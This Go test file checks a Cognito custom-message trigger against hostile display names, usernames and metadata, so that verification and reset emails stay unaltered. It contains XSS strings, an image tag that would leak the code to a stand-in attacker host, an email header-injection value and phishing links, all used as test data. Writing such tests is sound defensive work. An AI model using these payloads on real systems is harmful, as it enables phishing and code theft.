package adversarial

import (
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/cognito-triggers/suite/pkg/custommessage"
	"github.com/cognito-triggers/suite/pkg/message"
	"github.com/cognito-triggers/suite/pkg/triggers"
)

// hostileNames are display-name attacks: markup, code exfiltration through
// an image URL, link and bare-domain phishing, placeholder copies, controls,
// bidi and zero-width tricks, and oversized values.
var hostileNames = []string{
	`<img src="https://evil.example/c?x={####}">`,
	`<a href="https://evil.example">Click</a>`,
	`"><script>alert(1)</script>`,
	"{####}", "{username}", "{##Click Here##}", "{{.Code}}", "{{template \"code\" .}}", "${7*7}",
	"Visit evil.io now", "evil.io/login", "https://evil.io", "www.evil.io", "evil.co.uk", "evil.xn--p1ai",
	"evil\u3002io", "evil\uFF0Eio", "EVIL.IO", "evil.\u0131o", "evil . io x.io",
	"Jane\r\nBcc: victim@example.com", "Jane\x00Doe", "Jane\u202Eeod", "Ja\u200Bne.io", "J\u0301\u0301\u0301\u0301\u0301ane",
	"javascript:alert(1)", "data:text/html,<b>", "mailto:a@evil.io", "a@evil.io", "10.0.0.1",
	"%7B%23%23%23%23%7D", "&#123;####&#125;", "\\u007b####\\u007d",
	strings.Repeat("A", 5000), strings.Repeat("\U0001D400", 600), strings.Repeat("王", 700),
	"\xff\xfe<b>", "\u00A0\u3000\u2028\u2029",
}

// TestAdversarialA8_UnverifiedRecipientsGetNoUserText: the four messages to
// recipients who have not proven ownership (sign-up, resend, attribute
// update and verify) must be byte-identical whatever the attacker put into
// given_name, name, nickname, family_name, custom attributes or
// clientMetadata. Anything else means attacker text rides in our
// SPF/DKIM-signed mail.
func TestAdversarialA8_UnverifiedRecipientsGetNoUserText(t *testing.T) {
	h := customMessageHandler(t, custommessage.Config{CustomizeEmail: true}, nil, nil)
	for src := range unverifiedSources {
		base, err := h.Invoke(ctx(t), cmEvent(string(src), "u-1", strObj("email", "v@example.com"), ""))
		if err != nil {
			t.Fatal(err)
		}
		want := readCMResponse(t, base)
		for i, n := range hostileNames {
			t.Run(fmt.Sprintf("%s/%d", src, i), func(t *testing.T) {
				attrs := strObj("email", "v@example.com", "given_name", n, "name", n, "nickname", n,
					"family_name", n, "preferred_username", n, "custom:bio", n, "locale", "en")
				out, err := h.Invoke(ctx(t), cmEvent(string(src), "u-1", attrs, ""))
				if err != nil {
					t.Fatalf("custom message returned an error (the user's flow would fail): %v", err)
				}
				got := readCMResponse(t, out)
				if deref(got.SMSMessage) != deref(want.SMSMessage) || deref(got.EmailMessage) != deref(want.EmailMessage) ||
					deref(got.EmailSubject) != deref(want.EmailSubject) {
					t.Errorf("message to an unverified recipient changed with attacker attributes %q", n)
				}
			})
		}
	}
}

// TestAdversarialA8_GreetingNameIsInert: for the sources that greet by name
// (invitation, password reset, MFA), a hostile name never yields markup, a
// URL, a bare domain, a placeholder copy, a control or format character, or
// more than 40 runes; the message otherwise equals the neutral one.
func TestAdversarialA8_GreetingNameIsInert(t *testing.T) {
	h := customMessageHandler(t, custommessage.Config{CustomizeEmail: true}, nil, nil)
	greeting := regexp.MustCompile(`<p style="margin:0;">(?:Hi (.*?),|Hello,)</p>`)
	domainish := regexp.MustCompile(`(?i)[a-z0-9]\.[a-z0-9]{2}|https?|www|data:|mailto|@|%[0-9a-f]{2}|&#|\\u`)
	for _, src := range []triggers.Source{triggers.SourceMessageAdminCreateUser, triggers.SourceMessageForgotPassword, triggers.SourceMessageAuthentication} {
		base, err := h.Invoke(ctx(t), cmEvent(string(src), "u-1", strObj("email", "v@example.com"), ""))
		if err != nil {
			t.Fatal(err)
		}
		neutral := readCMResponse(t, base)
		for i, n := range hostileNames {
			t.Run(fmt.Sprintf("%s/%d", src, i), func(t *testing.T) {
				out, err := h.Invoke(ctx(t), cmEvent(string(src), "u-1", strObj("email", "v@example.com", "given_name", n), ""))
				if err != nil {
					t.Fatalf("error: %v", err)
				}
				got := readCMResponse(t, out)
				if deref(got.SMSMessage) != deref(neutral.SMSMessage) || deref(got.EmailSubject) != deref(neutral.EmailSubject) {
					t.Errorf("SMS or subject changed with the name %q", n)
				}
				body := deref(got.EmailMessage)
				m := greeting.FindStringSubmatch(body)
				if m == nil {
					t.Fatalf("no greeting found in:\n%s", body)
				}
				name := m[1]
				if strings.Replace(body, m[0], `<p style="margin:0;">Hello,</p>`, 1) != deref(neutral.EmailMessage) {
					t.Errorf("the name %q changed more than the greeting", n)
				}
				if utf8.RuneCountInString(name) > 40 {
					t.Errorf("greeting name is %d runes", utf8.RuneCountInString(name))
				}
				if strings.ContainsAny(name, "<>{}\"&:/?#=%@\\") || domainish.MatchString(name) {
					t.Errorf("greeting carries %q from %q", name, n)
				}
				for _, r := range name {
					if unicode.Is(unicode.Cf, r) || unicode.IsControl(r) || (unicode.IsSpace(r) && r != ' ') {
						t.Errorf("greeting carries U+%04X from %q", r, n)
					}
				}
			})
		}
	}
}

// TestAdversarialA8_UserNameOnlyPercentEncodedInLink: the userName (chosen
// by the user in pools without email sign-in) appears in a message only
// percent-encoded inside the button's href on our own origin: it can add no
// visible text, markup, attribute, query parameter or placeholder copy.
func TestAdversarialA8_UserNameOnlyPercentEncodedInLink(t *testing.T) {
	h := customMessageHandler(t, custommessage.Config{CustomizeEmail: true}, nil, nil)
	names := []string{
		`x" onmouseover="alert(1)`, "x'><img src=//evil.io>", "{####}", "{username}", "{##Click Here##}",
		"a&code=000000&next=https://evil.io", "a#frag", "../../evil", "javascript:alert(1)", "x\ny", "é&é",
		"evil.io", "%7B####%7D", "a+b c", strings.Repeat("𝐀", 128), strings.Repeat("𝐀", 129),
	}
	href := regexp.MustCompile(`<a href="([^"]*)"`)
	checked := 0
	baseSMS := map[triggers.Source]*string{}
	for _, src := range allSources {
		out, err := h.Invoke(ctx(t), cmEvent(string(src), "u-1", strObj("email", "v@example.com"), ""))
		if err != nil {
			t.Fatal(err)
		}
		baseSMS[src] = readCMResponse(t, out).SMSMessage
	}
	for _, src := range []triggers.Source{triggers.SourceMessageSignUp, triggers.SourceMessageResendCode, triggers.SourceMessageForgotPassword} {
		for i, u := range names {
			t.Run(fmt.Sprintf("%s/%d", src, i), func(t *testing.T) {
				out, err := h.Invoke(ctx(t), cmEvent(string(src), u, strObj("email", "v@example.com"), ""))
				if err != nil {
					t.Fatalf("error: %v", err)
				}
				got := readCMResponse(t, out)
				if got.EmailMessage == nil {
					// No userName may cost the user the branded message: one
					// Cognito would not send is left out of the link instead.
					t.Fatalf("fell back to the pool's message")
				}
				body := *got.EmailMessage
				if n := strings.Count(body, "{####}"); n != 2 {
					t.Errorf("%d copies of the code placeholder, want 2 (text and link)", n)
				}
				if deref(got.SMSMessage) != deref(baseSMS[src]) {
					t.Errorf("SMS changed with the userName")
				}
				links := href.FindAllStringSubmatch(body, -1)
				for _, l := range links {
					raw := strings.ReplaceAll(l[1], "&amp;", "&")
					if strings.HasPrefix(raw, "mailto:") {
						continue
					}
					pu, err := url.Parse(strings.ReplaceAll(raw, "{####}", "123456"))
					if err != nil {
						t.Fatalf("href %q does not parse: %v", raw, err)
					}
					if pu.Scheme != "https" || pu.Host != "app.example.com" || pu.Fragment != "" {
						t.Errorf("href %q leaves our origin or carries a fragment", raw)
					}
					q := pu.Query()
					for k := range q {
						if k != "username" && k != "code" {
							t.Errorf("href %q gained the query parameter %q", raw, k)
						}
					}
					if len(q["code"]) != 1 || q.Get("code") != "123456" {
						t.Errorf("href %q: code parameter is %q", raw, q["code"])
					}
					if vs := q["username"]; len(vs) > 1 || (len(vs) == 1 && vs[0] != u) {
						t.Errorf("href %q: username reads back as %q, want %q", raw, vs, u)
					}
				}
				visible := href.ReplaceAllString(body, "")
				for _, frag := range []string{"onmouseover", "<img", "evil.io", "javascript", "../"} {
					if strings.Contains(strings.ToLower(u), frag) && strings.Contains(visible, frag) {
						t.Errorf("userName fragment %q is visible in the body", frag)
					}
				}
				if len(links) == 0 {
					t.Errorf("no link in the body: nothing was checked")
				}
				checked++
			})
		}
	}
	// Every case must have reached the checks; a case that stops early
	// (a fallback, a missing link) has failed above, and this guards the
	// test itself against going green on nothing.
	if want := 3 * len(names); checked != want {
		t.Errorf("%d of %d cases were checked", checked, want)
	}
}

// TestAdversarialA8_PlaceholdersSurviveIntact: Cognito substitutes the code
// (and username, and link) placeholders by plain search after we answer, so
// each must appear verbatim, never HTML- or percent-encoded, in every field
// that needs it, and nowhere it must not be (the subject). The SMS and
// subject stay within 140 runes and the body below 20,000, all of Cognito's
// emailBody character classes.
func TestAdversarialA8_PlaceholdersSurviveIntact(t *testing.T) {
	h := customMessageHandler(t, custommessage.Config{CustomizeEmail: true, LinkVerification: true}, nil, nil)
	longName := strings.Repeat("𝐀", 2048)
	for _, src := range allSources {
		for _, code := range []string{"{####}", "{######}", "{##code##}", "{CODE}"} {
			t.Run(fmt.Sprintf("%s/%s", src, code), func(t *testing.T) {
				ev := cmEvent(string(src), strings.Repeat("ü", 128), strObj("email", "v@example.com", "given_name", longName, "locale", "zh_CN.UTF-8"), "")
				ev = []byte(strings.Replace(string(ev), `"codeParameter":"{####}"`, `"codeParameter":`+jstr(code), 1))
				out, err := h.Invoke(ctx(t), ev)
				if err != nil {
					t.Fatalf("error: %v", err)
				}
				got := readCMResponse(t, out)
				if got.SMSMessage == nil || got.EmailMessage == nil || got.EmailSubject == nil {
					t.Fatalf("fell back to the default message for a valid event")
				}
				sms, body, subj := *got.SMSMessage, *got.EmailMessage, *got.EmailSubject
				if !strings.Contains(sms, code) || !strings.Contains(body, code) {
					t.Errorf("code placeholder %q missing (sms %v, body %v)", code, strings.Contains(sms, code), strings.Contains(body, code))
				}
				if strings.ContainsAny(subj, "{}") {
					t.Errorf("subject carries a brace: %q", subj)
				}
				lower := strings.ToLower(body)
				for _, enc := range []string{"%7b", "&#123;", "&lbrace;", "%23%23"} {
					if strings.Contains(lower, enc) {
						t.Errorf("body contains an encoded placeholder %q", enc)
					}
				}
				if src == triggers.SourceMessageAdminCreateUser && (!strings.Contains(sms, "{username}") || !strings.Contains(body, "{username}")) {
					t.Errorf("invitation lacks the username placeholder")
				}
				if unverifiedSources[src] && !strings.Contains(body, "{##Click Here##}") {
					t.Errorf("verification message lacks the link placeholder")
				}
				if n := utf8.RuneCountInString(sms); n < 6 || n > 140 {
					t.Errorf("SMS is %d runes", n)
				}
				if n := utf8.RuneCountInString(subj); n < 1 || n > 140 {
					t.Errorf("subject is %d runes", n)
				}
				if n := utf8.RuneCountInString(body); n >= 20000 {
					t.Errorf("body is %d runes", n)
				}
				for field, s := range map[string]string{"sms": sms, "subject": subj, "body": body} {
					for _, r := range s {
						ok := unicode.In(r, unicode.L, unicode.M, unicode.S, unicode.N, unicode.P) || r == ' ' ||
							(field == "body" && (r == '\n' || r == '\r' || r == '\t'))
						if !ok {
							t.Errorf("%s contains U+%04X, outside Cognito's emailBody classes", field, r)
							break
						}
					}
					if field != "body" && strings.ContainsAny(s, "\r\n") {
						t.Errorf("%s spans lines", field)
					}
				}
			})
		}
	}
}

// TestAdversarialA8_OddEventsFallBackNeverFail: whatever odd shape a
// custom message event has, the trigger never returns an error (which would
// fail the user's sign-up, reset or sign-in) and never sends a half-made
// message: it either renders completely or returns the event as received,
// whose null fields tell Cognito to use the pool's own message. An unsafe
// placeholder is never inserted.
func TestAdversarialA8_OddEventsFallBackNeverFail(t *testing.T) {
	h := customMessageHandler(t, custommessage.Config{CustomizeEmail: true, LinkVerification: true}, nil, nil)
	signup := string(triggers.SourceMessageSignUp)
	admin := string(triggers.SourceMessageAdminCreateUser)
	set := func(src, key, raw string) []byte {
		ev := string(cmEvent(src, "u", strObj("email", "v@example.com", "name", "Jane"), ""))
		re := regexp.MustCompile(`"` + key + `":("[^"]*"|null)`)
		return []byte(re.ReplaceAllLiteralString(ev, `"`+key+`":`+raw))
	}
	cases := map[string][]byte{
		"code missing":            set(signup, "codeParameter", "null"),
		"code empty":              set(signup, "codeParameter", `""`),
		"code number":             set(signup, "codeParameter", "123456"),
		"code with markup":        set(signup, "codeParameter", jstr(`{<img src=x>}`)),
		"code with quote":         set(signup, "codeParameter", jstr(`{"onload="x}`)),
		"code without braces":     set(signup, "codeParameter", jstr("####")),
		"code with inner brace":   set(signup, "codeParameter", jstr("{{####}}")),
		"code with newline":       set(signup, "codeParameter", jstr("{##\n##}")),
		"code with bidi":          set(signup, "codeParameter", jstr("{##\u202E##}")),
		"code huge":               set(signup, "codeParameter", jstr("{"+strings.Repeat("#", 5000)+"}")),
		"code with ampersand":     set(signup, "codeParameter", jstr("{&amp;}")),
		"link with markup":        set(signup, "linkParameter", jstr(`{##<a href="https://evil.io">x</a>##}`)),
		"link not a link":         set(signup, "linkParameter", jstr("{####}")),
		"admin username null":     set(admin, "usernameParameter", "null"),
		"admin username markup":   set(admin, "usernameParameter", jstr("{<b>}")),
		"admin username object":   set(admin, "usernameParameter", `{"a":1}`),
		"attributes array":        []byte(strings.Replace(string(cmEvent(signup, "u", strObj("email", "v@example.com"), "")), `"userAttributes":{"email":"v@example.com"}`, `"userAttributes":[1,2]`, 1)),
		"name number":             cmEvent(string(triggers.SourceMessageForgotPassword), "u", obj("name", "42"), ""),
		"name object":             cmEvent(string(triggers.SourceMessageForgotPassword), "u", obj("name", `{"x":"<b>"}`), ""),
		"duplicate name":          cmEvent(string(triggers.SourceMessageForgotPassword), "u", obj("name", jstr("Jane"), "name", jstr("<b>evil.io</b>")), ""),
		"duplicate locale":        cmEvent(string(triggers.SourceMessageForgotPassword), "u", obj("locale", jstr("en"), "locale", jstr("zh-CN")), ""),
		"folded codeParameter":    []byte(strings.Replace(string(cmEvent(signup, "u", "{}", "")), `"linkParameter"`, `"CodeParameter":"{<b>}","linkParameter"`, 1)),
		"duplicate codeParameter": []byte(strings.Replace(string(cmEvent(signup, "u", "{}", "")), `"linkParameter"`, `"codeParameter":"{<b>}","linkParameter"`, 1)),
		"null attributes":         []byte(strings.Replace(string(cmEvent(signup, "u", "{}", "")), `"userAttributes":{}`, `"userAttributes":null`, 1)),
		"locale garbage":          cmEvent(signup, "u", strObj("locale", strings.Repeat("zh-", 1000)+"\x00"), ""),
		"huge userName":           cmEvent(signup, strings.Repeat("x", 100_000), "{}", ""),
		"request fields bools":    []byte(strings.Replace(string(cmEvent(signup, "u", "{}", "")), `"linkParameter":"{##Click Here##}"`, `"linkParameter":true`, 1)),
		"boolean attribute":       cmEvent(string(triggers.SourceMessageForgotPassword), "u", obj("email_verified", "true", "name", "true"), ""),
		"response already filled": []byte(strings.Replace(string(cmEvent(signup, "u", "{}", "")), `"smsMessage":null`, `"smsMessage":"evil {####}"`, 1)),
	}
	for name, payload := range cases {
		t.Run(name, func(t *testing.T) {
			out, err := h.Invoke(ctx(t), payload)
			if err != nil {
				t.Fatalf("custom message failed the user's flow: %v", err)
			}
			got := readCMResponse(t, out)
			rendered := got.EmailMessage != nil && got.SMSMessage != nil && got.EmailSubject != nil &&
				!strings.HasPrefix(*got.SMSMessage, "evil")
			if !rendered {
				// The event goes back as received: byte for byte when it
				// did not decode, re-encoded when the decision fell back.
				// Re-encoded, the response is the same JSON value, and so is
				// the rest but for a request string Cognito sent as null,
				// which the typed request holds as "" (Cognito does not read
				// the request back).
				received, answered := jsonValue(t, payload).(map[string]any), jsonValue(t, out).(map[string]any)
				if diff := cmp.Diff(received["response"], answered["response"]); diff != "" {
					t.Errorf("fallback changed the response (-received +answered):\n%s", diff)
				}
				if diff := cmp.Diff(received, answered, nullIsEmpty); diff != "" {
					t.Errorf("fallback changed the event (-received +answered):\n%s", diff)
				}
				return
			}
			for _, bad := range []string{"<b>", "<img", "evil.io", "onload", "\u202E", "<a href=\"https://evil"} {
				if strings.Contains(*got.EmailMessage, bad) || strings.Contains(*got.SMSMessage, bad) {
					t.Errorf("rendered message contains %q", bad)
				}
			}
			if err := message.Check(inputFor(t, payload), message.Output{EmailSubject: *got.EmailSubject,
				EmailMessage: *got.EmailMessage, SMSMessage: *got.SMSMessage}); err != nil {
				t.Errorf("rendered a message that breaks Cognito's rules: %v", err)
			}
		})
	}
	t.Run("email fields null unless SES", func(t *testing.T) {
		h := customMessageHandler(t, custommessage.Config{}, nil, nil)
		for _, src := range allSources {
			out, err := h.Invoke(ctx(t), cmEvent(string(src), "u", strObj("name", "Jane"), ""))
			if err != nil {
				t.Fatal(err)
			}
			got := readCMResponse(t, out)
			if got.EmailMessage != nil || got.EmailSubject != nil || got.SMSMessage == nil {
				t.Errorf("%s: email %v subject %v sms %v; want email fields null (pool not on SES) and an SMS", src,
					got.EmailMessage != nil, got.EmailSubject != nil, got.SMSMessage != nil)
			}
		}
	})
}

// inputFor is the message.Input the reference decoder reads from an event.
func inputFor(t *testing.T, payload []byte) message.Input {
	t.Helper()
	ev, err := triggers.Decode[triggers.CustomMessage](payload)
	if err != nil {
		t.Fatalf("reference decoder refused an event the handler rendered: %v", err)
	}
	in := message.Input{Source: ev.TriggerSource, CodeParameter: ev.Request.CodeParameter, LinkParameter: ev.Request.LinkParameter, UserName: ev.UserName}
	if ev.Request.UsernameParameter != nil {
		in.UsernameParameter = *ev.Request.UsernameParameter
	}
	return in
}

// TestAdversarialA8_RendererErrorsCarryNoUserData: the renderer's own error
// texts (logged as the fallback cause) name templates and rules, never the
// placeholder, name or userName that caused them.
func TestAdversarialA8_RendererErrorsCarryNoUserData(t *testing.T) {
	r := renderer(t)
	inputs := []message.Input{
		{Source: triggers.SourceMessageSignUp, CodeParameter: "{" + canaryMeta + "<}"},
		{Source: triggers.SourceMessageAdminCreateUser, CodeParameter: "{####}", UsernameParameter: canaryUser},
		{Source: triggers.SourceMessageSignUp, CodeParameter: "{####}", LinkParameter: "{##" + canaryMeta + "\x00##}"},
		{Source: triggers.SourceMessageForgotPassword, CodeParameter: "", Attributes: map[string]string{"name": canaryName}, UserName: canaryUser},
	}
	for i, in := range inputs {
		_, err := r.Render(in)
		if err == nil {
			t.Errorf("input %d rendered", i)
			continue
		}
		assertNoCanary(t, fmt.Sprintf("error %d", i), err.Error(), canaryMeta, canaryUser, canaryName)
	}
}

// TestAdversarialA6_ClientMetadataNeverShapesTheMessage: clientMetadata is
// chosen by whoever calls the API; putting name, locale, link or code
// lookalikes in it must leave every message byte-identical.
func TestAdversarialA6_ClientMetadataNeverShapesTheMessage(t *testing.T) {
	h := customMessageHandler(t, custommessage.Config{CustomizeEmail: true, LinkVerification: true}, nil, nil)
	meta := strObj("given_name", "<b>evil.io</b>", "name", "Visit evil.io", "locale", "zh-CN", "codeParameter", "{<img>}",
		"linkParameter", "{##<a href=https://evil.io>x</a>##}", "usernameParameter", "{x}", "appUrl", "https://evil.io")
	for _, src := range allSources {
		plain := cmEvent(string(src), "u-1", strObj("given_name", "Jane"), "")
		hostile := []byte(strings.Replace(string(plain), `"clientMetadata":{"signup_source":"web"}`, `"clientMetadata":`+meta, 1))
		if string(plain) == string(hostile) {
			t.Fatal("test bug: clientMetadata not replaced")
		}
		a, err1 := h.Invoke(ctx(t), plain)
		b, err2 := h.Invoke(ctx(t), hostile)
		if err1 != nil || err2 != nil {
			t.Fatalf("%s: %v %v", src, err1, err2)
		}
		ra, rb := readCMResponse(t, a), readCMResponse(t, b)
		if deref(ra.SMSMessage) != deref(rb.SMSMessage) || deref(ra.EmailMessage) != deref(rb.EmailMessage) || deref(ra.EmailSubject) != deref(rb.EmailSubject) {
			t.Errorf("%s: clientMetadata changed the message", src)
		}
	}
}

// nullIsEmpty equates a JSON null with "".
var nullIsEmpty = cmp.FilterValues(func(a, b any) bool {
	return a == nil && b == "" || a == "" && b == nil
}, cmp.Comparer(func(any, any) bool { return true }))

// jsonValue decodes JSON into generic values, failing the test on an
// error.
func jsonValue(t *testing.T, data []byte) any {
	t.Helper()
	var v any
	if err := json.Unmarshal(data, &v); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, data)
	}
	return v
}
